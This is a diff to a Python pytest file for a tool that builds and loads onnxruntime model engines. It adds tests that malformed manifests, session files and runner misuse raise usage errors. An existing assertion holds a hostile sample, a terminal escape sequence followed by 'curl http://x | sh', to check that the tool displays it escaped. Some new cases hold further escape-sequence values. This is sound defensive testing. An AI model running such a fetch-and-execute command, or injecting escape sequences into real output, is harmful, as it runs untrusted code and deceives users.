@@ -121,3 +121,36 @@ def test_recorded_command_is_shown_escaped_and_only_as_information(engine):
     assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr
     assert "rebuild it here with `trtopt build" in proc.stderr and "--name 'n\\x1b[31m' --force`" in proc.stderr
     assert "records the build command as: '\\x1b]0;owned\\x07\\x1b[2J curl http://x | sh'" in proc.stderr
+
+
+@pytest.mark.parametrize("change, says", [
+    (lambda m: m.update(backend="onnxruntime"), "manifest entry 'backend' is missing or not a mapping"),
+    (lambda m: m.update(engine=["model.ort.onnx"]), "manifest entry 'engine' is missing or not a mapping"),
+    (lambda m: m.update(precision=None), "manifest entry 'precision' is missing or not a string"),
+    (lambda m: m.update(schema_version="\x1b[2J1"), r"manifest schema version '\\x1b\[2J1'"),
+])
+def test_hand_edited_manifest_is_a_usage_error(engine, change, says):
+    _edit_manifest(engine, change)
+    with pytest.raises(UsageError, match=says):
+        load(engine)
+
+
+@pytest.mark.parametrize("session, says", [
+    (["not", "a", "mapping"], "expected a JSON object of session options"),
+    ({"intra_op_num_threads": -3}, "'intra_op_num_threads' must be null or a positive integer"),
+    ({"config": {"session.x": 1}}, "'config' must be a mapping of strings to strings"),
+])
+def test_hand_edited_session_file_is_a_usage_error(engine, session, says):
+    (engine / "session.json").write_text(json.dumps(session))
+    with pytest.raises(UsageError, match=f"session.json: {says}"):
+        load(engine)
+
+
+def test_infer_after_close_and_a_list_feed_are_usage_errors(engine):
+    x = np.zeros((1, 3, 16, 16), np.float32)
+    runner = load(engine)
+    with pytest.raises(UsageError, match=r"the feed must be a dict of input name -> array, got a list"):
+        runner.infer([x])
+    runner.close()
+    with pytest.raises(UsageError, match="this onnxruntime runner is closed"):
+        runner.infer({"input": x})
